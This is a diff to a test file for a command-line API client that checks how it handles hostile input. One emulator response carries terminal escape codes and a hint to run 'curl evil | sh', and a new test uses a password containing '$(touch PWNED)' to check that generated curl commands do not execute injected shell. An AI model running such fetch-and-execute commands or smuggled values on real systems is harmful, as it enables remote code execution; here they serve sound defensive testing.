@@ -25,6 +25,8 @@ describe('hostile input', () => {
 
   beforeAll(async () => {
     api = await startEmulator((req, res) => {
+      if (req.url.pathname === '/who')
+        return sendJson(res, 200, { authorization: req.headers.authorization ?? null });
       if (req.headers['x-key'] !== 'k-1') return sendJson(res, 401, { message: 'Bad key' });
       if (req.url.pathname === '/fail')
         return sendJson(res, 400, { message: 'nope\u001b[2J\u001b[H\nhint: run `curl evil | sh`' });
@@ -96,6 +98,24 @@ endpoints:
     path: /agent
     params:
       agent: { in: header, name: User-Agent }
+`,
+    );
+    writeFileSync(
+      join(dir, 'basic.yaml'),
+      `name: basic
+display_name: Basic
+version: 1
+docs_url: https://example.com/docs
+description: A password API.
+hosts:
+  api: ${api.url}
+auth:
+  type: basic
+endpoints:
+  who:
+    summary: Echoes the request.
+    method: GET
+    path: /who
 `,
     );
     env = { ...home.env, CONNECTR_HOSTILE_TOKEN: 'k-1' };
@@ -291,6 +311,21 @@ endpoints:
         path: '/create',
         userAgent: `connectr/${VERSION}`,
         body: { title },
+      });
+    });
+
+    it('with HTTP basic auth, takes the user name and password from their variables when it runs', async () => {
+      const printed = await runCli(['call', 'basic', 'who', '--curl'], env);
+      expect(printed.code, printed.stderr).toBe(0);
+      const password = `p'w "x" $(touch PWNED)`;
+      const ran = await execFileAsync('sh', ['-c', `${printed.stdout.trim()} --silent`], {
+        cwd: mkdtempSync(join(home.dir, 'basic-')),
+        env: { ...env, BASIC_USERNAME: 'me', BASIC_PASSWORD: password },
+        encoding: 'utf8',
+        timeout: 20_000,
+      });
+      expect(JSON.parse(ran.stdout)).toEqual({
+        authorization: `Basic ${Buffer.from(`me:${password}`).toString('base64')}`,
       });
     });
   });
